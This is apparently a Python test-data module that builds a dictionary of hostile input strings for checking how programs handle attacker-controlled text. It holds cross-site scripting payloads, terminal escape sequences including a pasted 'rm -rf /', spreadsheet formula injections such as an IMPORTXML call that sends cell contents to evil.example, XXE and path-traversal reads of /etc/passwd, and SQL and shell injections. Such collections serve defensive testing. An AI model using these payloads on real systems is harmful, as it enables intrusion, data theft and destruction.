# SPDX-License-Identifier: LGPL-2.1-only
"""What an attacker writes into a log, a file's name or an inventory, hoping that somebody's program acts on it.

Built from parts: what to run, and the many ways to make a reader run it. `PAYLOADS` maps a name to bytes.
"""

CALL = "alert(1)"

EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle"]
ELEMENTS = ["img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "marquee",
            "iframe src=javascript:alert(1)", "object data=javascript:alert(1)", "embed src=javascript:alert(1)",
            "math", "style", "link rel=stylesheet href=//evil.example", "base href=//evil.example/", "form action=//evil.example"]
SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "vbscript:",
           "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "&#106;avascript:", "jav&#x0A;ascript:", "file:///",
           "//evil.example/", "https://evil.example/", "http://evil.example/?x=", "ftp://evil.example/", "mailto:a@evil.example"]


def html():
    for event in EVENTS:
        yield f'<img src=x {event}={CALL}>'
        yield f'" {event}="{CALL}" x="'
        yield f"' {event}='{CALL}' x='"
        yield f'x {event}={CALL} '
    for element in ELEMENTS:
        yield f"<{element} onload={CALL}>"
        yield f"</{element.split()[0]}><{element}>"
    for scheme in SCHEMES:
        yield f'<a href="{scheme}{CALL}">x</a>'
        yield f"{scheme}{CALL}//"
    yield from (
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert`1`</script>",
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</pre></code></details></main></body></html><h1>x</h1>", "</svg></math><img src=x onerror=alert(1)>",
        "--><script>alert(1)</script><!--", "<!--><img src=x onerror=alert(1)>-->", "]]><script>alert(1)</script>", "<![CDATA[<b>x</b>]]>",
        "<?php system('id') ?>", "<?xml version='1.0'?>", "<!doctype html>", "<plaintext>", "<noscript><p title='</noscript><img src=x>'>",
        "<template><script>alert(1)</script></template>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=Content-Security-Policy content=''>",
        "<b style='position:fixed;inset:0;background:red'>", "<div style=background:url(//evil.example)>", "<style>*{display:none}</style>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&#0;&#xd800;&nosuch;&amp", "&NewLine;&Tab;&colon;",
        "+ADw-script+AD4-alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "＜script＞alert(1)＜/script＞",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[${7*7}]]", "*{7*7}",
        "<" * 500, ">" * 500, '"' * 500, "'" * 500, "&" * 500, "<a " * 200,
    )


def terminal():
    for sequence in ("[31m", "[2J", "[1;1H", "[?1049h", "[?25l", "[6n", "[c", "[0;0;0t", "[21t", "[5i", "[4i", "[!p", "[8m", "[1A", "[999D",
                     "[2K", "(0", "#8", "c", "D", "M", "7", "8", "=", "N", "]0;owned\x07", "]2;owned\x1b\\", "]52;c;aGk=\x07", "]8;;https://evil.example\x07x",
                     "]4;1;?\x07", "]10;?\x07", "]1337;File=:aGk=\x07", "]777;notify;a;b\x07", "]9;4;3\x07", "P+q544e\x1b\\", "P$qm\x1b\\", "_G\x1b\\",
                     "^x\x1b\\", "X\x1b\\", "[200~rm -rf /\r\x1b[201~"):
        yield "\x1b" + sequence
    for control in (*range(0, 0x20, 4), *range(0x7f, 0xa0, 4)):
        yield "a" + "b".join(chr(control + i) for i in range(4)) + "c"
    for point in "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\ufffe\uffff\ufdd0\U0001fffe":
        yield f"a{point}b"
    yield from ("\u202egpj.exe", "\u2066\u202etxt.\u2069exe", "\r\nFAKE: all is well", "all is well\x08\x08\x08\x08bad", "\r" + " " * 80 + "\r")


def markdown():
    yield from (
        "![x](https://evil.example/x.png)", "[x](https://evil.example)", "[x](javascript:alert(1))", "[x]: https://evil.example", "[x][y]",
        "![x][y]", "<https://evil.example>", "<a@evil.example>", "https://evil.example/", "http://evil.example", "www.evil.example", "WwW.evil.example/x",
        "a@evil.example", "@octocat", "@org/team please", "x @octocat, y", "#1", "org/repo#1", "GH-1", "gh-12", "# heading", "## heading\n", "- item", "+ item",
        "* item", "1. item", "1) item", "> quote", "```\ncode", "```", "````", "`", "``", "` ` `", "`<b>`", "~~~", "~~gone~~", "---", "***", "___", "===", "=",
        "    code", "\tcode", "| a | b |", "|---|---|", "a | b | c", "a\\| b", "\\", "\\\\", "\\`x`", "**bold**", "__bold__", "*it*", "_it_", "a_b_c_",
        "[ ] task", "- [x] task", "[^1]", "[^1]: note", ":smile:", "$x$", "$$x$$", "<!-- x -->", "<details><summary>", "<br>", "<img src=x>",
        "a  \nb", "a\\\nb", "\n\n# h", "\n\n- <b>x</b>\n1. <i>y</i>\n\n    <u>z</u>\n", "&copy;", "&#64;octocat", "](https://evil.example)", "x](https://evil.example)",
        "[x](<https://evil.example>)", "[[wiki]]", "{{< shortcode >}}", "xmpp:a@evil.example", "ftp://evil.example", "MAILTO:a@evil.example",
    )


def spreadsheets():
    for begin in ("=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"='):
        yield begin + 'cmd|\'/c calc\'!A0'
        yield begin + 'HYPERLINK("https://evil.example","x")'
    yield from ('";=1+1', '",=1+1', '"\n=1+1', "=1+1;", "-1+1", "+1", "-5", "1e5", "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")", "%0A=1", "|=1")


def data():
    yield from (
        '"} 1\nxenhealth_score 100\n#', 'x"} 5', "\\", '\\"', "x\\", "\\n", "{a=\"b\"}", "# HELP x y\n# TYPE x counter\nx 1", "NaN", "x 1 1",
        "| score=100", "OK | x=1", "'a'=1", "x=1;;;;", "$(id)", "`id`", "$HOSTNAME$", "; rm -rf /", "&& id", "|| id", "!!", "~root",
        "<testcase name='x'/>", "</failure></testcase>", "</testsuites>", '"/><testcase name="x', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "&e;", "%e;", "<xi:include href='file:///etc/passwd'/>", "]]>", "<?x?>", "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "%2e%2e%2f",
        "file:///etc/passwd", "{0}", "{title}", "{{0}}", "[x](1)", "\",\"level\":\"none", '\\u0000', "null", "' OR 1=1 --", "\"; DROP TABLE hosts; --",
        "A" * 5000, "é" * 3000, "\U0001f4a9" * 500,
    )


def broken_text():
    yield from (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x9b31m", b"\xc2\x9b31m", b"\xf6<\xbcscript>", b"\x80" * 100,
                b"a\xf0\x9f", b"\xc3\x28", b"\xfe\xfe\xff\xff")


PAYLOADS = {}
for family in (html, terminal, markdown, spreadsheets, data, broken_text):
    for number, payload in enumerate(family()):
        PAYLOADS[f"{family.__name__}-{number}"] = payload if isinstance(payload, bytes) else payload.encode()
